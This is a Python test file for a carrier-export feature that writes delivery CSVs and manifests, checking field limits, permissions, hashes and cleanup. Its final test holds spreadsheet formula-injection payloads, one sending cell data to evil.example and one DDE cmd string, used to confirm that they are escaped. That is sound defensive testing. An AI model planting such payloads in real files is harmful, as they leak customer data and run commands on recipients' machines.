"""Carrier files: one CSV and manifest per file-taking carrier, from the hand-off, replaced each run."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import stat

import pytest

from lifecycle.logistics.files import export_carrier_files
from lifecycle.logistics.handoff import refresh_handoff
from lifecycle.policy import load_policy
from tests.carriers import NEVER_SHARED, add_pending, carriers_policy, set_order
from tests.conftest import AS_OF
from tests.shop import PERSONAL


@pytest.fixture
def shop(engine, policy_file):
    policy = carriers_policy(policy_file)
    with engine.begin() as conn:
        add_pending(conn, 1, "sf_express", customer_id=4242)
        add_pending(
            conn,
            2,
            "sf_express",
            status="shipped",
            receiver_address='Flat 2, "Blue" House,\nLane 5',
        )
        add_pending(conn, 3, "zto_express")
        add_pending(conn, 4, "jd_logistics")
    refresh_handoff(engine, policy, run_id="night-1")
    return policy


@pytest.fixture
def out(tmp_path):
    """The export folder (tmp_path itself also holds the test's policy files)."""
    return tmp_path / "exports"


def export(engine, policy, folder, run_id="night-1"):
    return export_carrier_files(engine, policy, folder, run_id=run_id)


def read_csv(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_each_file_taking_carrier_gets_its_own_deliveries_only(engine, shop, out):
    report = export(engine, shop, out)
    assert sorted(p.name for p in out.iterdir()) == [
        "jd_logistics",
        "sf_express",
    ]  # zto reads by role
    sf = read_csv(out / "sf_express" / "deliveries.csv")
    assert [row["order_id"] for row in sf] == ["1", "2"] and {row["carrier"] for row in sf} == {
        "sf_express"
    }
    assert [row["order_id"] for row in read_csv(out / "jd_logistics" / "deliveries.csv")] == ["4"]
    assert report.metadata()["rows_by_carrier"] == {"sf_express": 2, "jd_logistics": 1}
    assert report.metadata()["carriers_without_file"] == {
        "zto_express": "reads its rows as database role lifecycle_carrier_zto_express"
    }


def test_the_file_holds_the_delivery_fields_exactly_and_nothing_else(engine, shop, out):
    export(engine, shop, out)
    path = out / "sf_express" / "deliveries.csv"
    rows = read_csv(path)
    assert list(rows[0]) == [
        "order_id",
        "carrier",
        "receiver_name",
        "receiver_address",
        "receiver_postcode",
        "receiver_phone",
        "ship_region",
    ]
    assert (
        rows[1]["receiver_address"] == 'Flat 2, "Blue" House,\nLane 5'
    )  # quoting survives the round trip
    assert rows[0]["receiver_phone"] == PERSONAL["receiver_phone"]
    text = path.read_text()
    assert (
        not any(value in text for value in NEVER_SHARED) and "4242" not in text
    )  # no email, payment, customer
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_the_manifest_describes_the_file_it_sits_beside(engine, shop, out):
    export(engine, shop, out, run_id="run-42")
    folder = out / "sf_express"
    manifest = json.loads((folder / "manifest.json").read_text())
    data = (folder / "deliveries.csv").read_bytes()
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest() and manifest["bytes"] == len(data)
    assert (manifest["carrier"], manifest["rows"], manifest["run_id"]) == (
        "sf_express",
        2,
        "run-42",
    )
    assert (
        manifest["columns"][:2] == ["order_id", "carrier"]
        and manifest["policy_version"] == "carriers-1"
    )
    assert not any(value in json.dumps(manifest) for value in PERSONAL.values())
    assert sorted(p.name for p in folder.iterdir()) == [
        "deliveries.csv",
        "manifest.json",
    ]  # no partial files


def test_the_next_export_drops_a_delivered_order_from_the_file(engine, shop, out):
    export(engine, shop, out)
    with engine.begin() as conn:
        set_order(conn, 1, status="delivered", delivered_at=AS_OF)
    refresh_handoff(engine, shop, run_id="night-2")
    export(engine, shop, out, run_id="night-2")
    assert [row["order_id"] for row in read_csv(out / "sf_express" / "deliveries.csv")] == ["2"]
    assert json.loads((out / "sf_express" / "manifest.json").read_text())["rows"] == 1


def test_the_file_carries_only_the_fields_the_policy_hands_off(engine, policy_file, out):
    narrow = carriers_policy(policy_file, fields="receiver_address, receiver_postcode")
    with engine.begin() as conn:
        add_pending(conn, 1, "jd_logistics")
    refresh_handoff(engine, narrow, run_id="night-1")
    export(engine, narrow, out)
    [row] = read_csv(out / "jd_logistics" / "deliveries.csv")
    assert row == {
        "order_id": "1",
        "carrier": "jd_logistics",
        "receiver_address": PERSONAL["receiver_address"],
        "receiver_postcode": PERSONAL["receiver_postcode"],
    }


def test_a_carrier_that_stops_taking_files_has_its_file_removed(engine, shop, out, policy_file):
    export(engine, shop, out)
    (out / "jd_logistics" / "receipt.txt").write_text("picked up")  # not ours: left alone
    no_jd = load_policy(
        policy_file(
            'version: "2"\nlogistics:\n  carriers: {sf_express: {csv: true}}\n', "no_jd.yaml"
        )
    )
    report = export(engine, no_jd, out, run_id="night-2")
    assert report.removed == ["jd_logistics"]
    assert sorted(p.name for p in (out / "jd_logistics").iterdir()) == ["receipt.txt"]
    assert (out / "sf_express" / "deliveries.csv").exists()


def test_a_carrier_with_nothing_pending_gets_a_header_only_file(engine, shop, out):
    with engine.begin() as conn:
        set_order(conn, 4, status="cancelled", cancelled_at=AS_OF)
    refresh_handoff(engine, shop, run_id="night-2")
    export(engine, shop, out)
    path = out / "jd_logistics" / "deliveries.csv"
    assert read_csv(path) == [] and path.read_text().startswith("order_id,carrier,")
    assert json.loads((out / "jd_logistics" / "manifest.json").read_text())["rows"] == 0


def test_a_value_a_spreadsheet_would_run_as_a_formula_is_written_as_text(engine, shop, out):
    """A customer's own name typed as `=HYPERLINK(…&B2, …)` ran in the carrier's spreadsheet
    and sent other customers' cells out. Such a cell gets a leading apostrophe; a phone written
    with + and a name with a hyphen stay as they are."""
    formula = '=HYPERLINK("http://evil.example/?"&B2,"x")'
    with engine.begin() as conn:
        set_order(conn, 1, receiver_name=formula, receiver_address="-2+3+cmd|' /C calc'!A0")
        set_order(conn, 2, receiver_name="Jean-Luc Picard", receiver_address="@SUM(A1)")
    refresh_handoff(engine, shop, run_id="night-2")
    export(engine, shop, out, run_id="night-2")
    one, two = read_csv(out / "sf_express" / "deliveries.csv")
    assert one["receiver_name"] == "'" + formula
    assert one["receiver_address"] == "'-2+3+cmd|' /C calc'!A0"
    assert two["receiver_address"] == "'@SUM(A1)"
    assert two["receiver_name"] == "Jean-Luc Picard"
    assert one["receiver_phone"] == two["receiver_phone"] == PERSONAL["receiver_phone"]
    assert PERSONAL["receiver_phone"].startswith("+")
